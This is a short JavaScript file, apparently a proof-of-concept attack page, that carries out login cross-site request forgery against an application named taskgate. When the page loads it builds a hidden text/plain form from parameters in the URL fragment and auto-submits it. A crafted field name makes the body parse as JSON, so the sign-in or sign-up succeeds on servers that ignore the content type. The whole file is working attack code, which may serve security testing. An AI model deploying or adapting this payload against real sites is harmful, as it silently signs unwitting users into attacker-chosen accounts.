// Login CSRF: a page on another origin posts a form to taskgate's sign-in (or sign-up) as soon as
// it loads. HTML forms cannot send application/json, but `text/plain` sends `name=value` as it
// is, so a field named `{"email":"…","password":"…","x":"` with the value `"}` makes the body
// `{"email":"…","password":"…","x":"="}`: JSON to a server that does not look at the content type.
//
// What to post comes in the fragment (never sent to any server):
//   #action=<taskgate URL>&fields=<JSON object of the fields>
"use strict";

(function post() {
  const params = new URLSearchParams(location.hash.slice(1));
  const action = params.get("action");
  const fields = JSON.parse(params.get("fields") ?? "null");
  if (!action || !fields) return;
  const json = JSON.stringify(fields);
  const form = document.createElement("form");
  form.method = "post";
  form.enctype = "text/plain";
  form.action = action;
  const input = document.createElement("input");
  input.type = "hidden";
  input.name = `${json.slice(0, -1)},"x":"`;
  input.value = '"}';
  form.append(input);
  document.body.append(form);
  form.submit();
})();
